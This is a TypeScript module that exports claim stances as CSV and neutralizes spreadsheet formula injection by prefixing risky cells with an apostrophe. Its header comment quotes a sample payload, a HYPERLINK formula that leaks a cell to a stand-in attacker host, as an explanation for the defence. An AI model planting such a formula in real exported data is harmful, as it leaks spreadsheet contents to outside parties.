// The stances as CSV (RFC 4180): one row per live stance on a live claim.
//
// A quote is whatever a source printed, so a cell may begin with "=", "+", "-" or "@", which a
// spreadsheet runs as a formula (=HYPERLINK("http://evil.example/?leak="&A1) leaks the sheet).
// By default such a cell is neutralized as OWASP recommends: a leading apostrophe makes the
// spreadsheet show it as text. Programs that want the words exactly ask for `verbatim` (the
// JSON exports are always verbatim).
import type { Db } from "../database/create-client";
import { isoPartialDate } from "../format";

export const STANCE_CSV_COLUMNS = ["claim", "claim_text", "position", "mode", "quote", "source", "source_title", "outlet", "date", "speaker"] as const;

export type CsvOptions = { verbatim?: boolean };

/** A cell a spreadsheet would read as a formula: its first character is one of these. */
const FORMULA_START = /^[=+\-@\t\r]/;

/** One CSV field: neutralized unless verbatim, then quoted when it holds a comma, a quote or a line break. */
export function csvField(value: string | null, { verbatim = false }: CsvOptions = {}): string {
  const raw = value ?? "";
  const text = !verbatim && FORMULA_START.test(raw) ? `'${raw}` : raw;
  return /[",\r\n]/.test(text) || text !== raw ? `"${text.replaceAll('"', '""')}"` : text;
}

export const csvRow = (values: readonly (string | null)[], options: CsvOptions = {}) => `${values.map((v) => csvField(v, options)).join(",")}\r\n`;

export async function stancesCsv(db: Db, options: CsvOptions = {}): Promise<string> {
  const stances = await db.stance.findMany({
    where: { retractedAt: null, orphanedAt: null, claim: { retractedAt: null } },
    orderBy: [{ claim: { slug: "asc" } }, { sourceId: "asc" }, { start: "asc" }, { id: "asc" }],
    select: {
      position: true,
      mode: true,
      quote: true,
      claim: { select: { slug: true, text: true } },
      speaker: { select: { name: true } },
      source: { select: { id: true, title: true, publishedAt: true, datePrecision: true, outlet: { select: { name: true } } } },
    },
  });
  let csv = csvRow(STANCE_CSV_COLUMNS, options);
  for (const s of stances) {
    csv += csvRow(
      [
        s.claim.slug,
        s.claim.text,
        s.position,
        s.mode,
        s.quote,
        s.source.id,
        s.source.title,
        s.source.outlet.name,
        isoPartialDate(s.source.publishedAt, s.source.datePrecision),
        s.speaker?.name ?? null,
      ],
      options,
    );
  }
  return csv;
}
